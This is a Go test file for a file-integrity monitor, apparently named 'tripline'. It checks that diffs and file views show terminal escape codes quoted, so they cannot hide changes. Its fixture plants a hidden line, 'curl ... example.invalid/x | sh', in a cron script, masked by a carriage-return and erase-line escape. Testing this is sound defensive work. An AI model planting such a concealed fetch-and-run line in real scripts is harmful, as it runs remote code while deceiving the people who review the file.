package main

import (
	"bytes"
	"encoding/json"
	"io"
	"strings"
	"testing"
)

// hiddenLine is issue 13's attack: on a terminal, "\r\x1b[K" returns the cursor to the start of
// the line and erases it, so the "curl | sh" before it is never seen and only "echo backup done"
// is.
const (
	cleanScript  = "#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n"
	hiddenScript = cleanScript + "curl -s http://example.invalid/x | sh\r\x1b[Kecho backup done\n"
	// What tripline prints for the hidden line: Go-quoted, the escape visible.
	shownLine = `"curl -s http://example.invalid/x | sh\r\x1b[Kecho backup done"`
)

// hiddenLineFixture records a baseline of a clean cron script, rewrites it to hide a line, and
// scans again, so the history holds both versions.
func hiddenLineFixture(t *testing.T) (*inproc, string) {
	t.Helper()
	h := newInproc(t)
	const p = "/etc/cron.daily/backup"
	h.fx.write(t, p[1:], cleanScript, 0o644)
	if r := h.run("scan"); r.code != 0 {
		t.Fatalf("first scan: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	h.fx.write(t, p[1:], hiddenScript, 0o755)
	if r := h.run("scan"); r.code != exitChanged {
		t.Fatalf("second scan: exit %d, want %d\n%s%s", r.code, exitChanged, r.stdout, r.stderr)
	}
	return h, p
}

// The escape sequence is shown, not obeyed, in history --diff (text and JSON), and the line it
// hid is there.
func TestHistoryDiffShowsHiddenLine(t *testing.T) {
	h, p := hiddenLineFixture(t)
	for _, format := range []string{"text", "json"} {
		r := h.run("history", "--diff", "--format", format, p)
		if r.code != 0 {
			t.Fatalf("history --diff --format %s: exit %d %s", format, r.code, r.stderr)
		}
		out := r.stdout
		if format == "json" {
			// The JSON string holds the rendered diff: what a reader of `jq -r .diffs[]` sees.
			var v struct{ Diffs []string }
			if err := json.Unmarshal([]byte(out), &v); err != nil || len(v.Diffs) != 1 {
				t.Fatalf("history --diff --format json: %v, %d diffs\n%s", err, len(v.Diffs), out)
			}
			out = v.Diffs[0]
		}
		t.Logf("history --diff --format %s, as printed:\n%s", format, out)
		if strings.ContainsAny(out, "\r\x1b") {
			t.Errorf("--format %s: the diff carries a raw carriage return or escape: %q", format, out)
		}
		if !strings.Contains(out, "\n+"+shownLine+"\n") && !strings.HasSuffix(out, "\n+"+shownLine) {
			t.Errorf("--format %s: the diff does not show the added line as %s:\n%s", format, "+"+shownLine, out)
		}
	}
}

// show is byte for byte to a pipe, and shows the escape to a terminal (a real pseudo-terminal).
func TestShowToTerminal(t *testing.T) {
	h, p := hiddenLineFixture(t)
	if r := h.run("show", p+"@2"); r.code != 0 || r.stdout != hiddenScript || r.stderr != "" {
		t.Errorf("show to a pipe: exit %d, %q, stderr %q; want the bytes as stored", r.code, r.stdout, r.stderr)
	}

	master, slave := openPTY(t, 80)
	got := make(chan []byte)
	go func() {
		b, _ := io.ReadAll(master) // ends with EIO once the slave side is closed
		got <- b
	}()
	var se bytes.Buffer
	code := run(t.Context(), []string{"tripline", "--db", h.fx.db, "--root", h.fx.root, "show", p + "@2"}, slave, &se)
	slave.Close()
	screen := strings.ReplaceAll(string(<-got), "\r\n", "\n") // the terminal's ONLCR
	master.Close()
	if code != 0 {
		t.Fatalf("show to a terminal: exit %d %s", code, se.String())
	}
	t.Logf("show to a terminal:\n%s", screen)
	if want := cleanScript + shownLine + "\n"; screen != want {
		t.Errorf("the terminal got %q, want %q", screen, want)
	}
	if !strings.Contains(se.String(), "shown Go-quoted") {
		t.Errorf("stderr %q does not say that lines were quoted", se.String())
	}
}
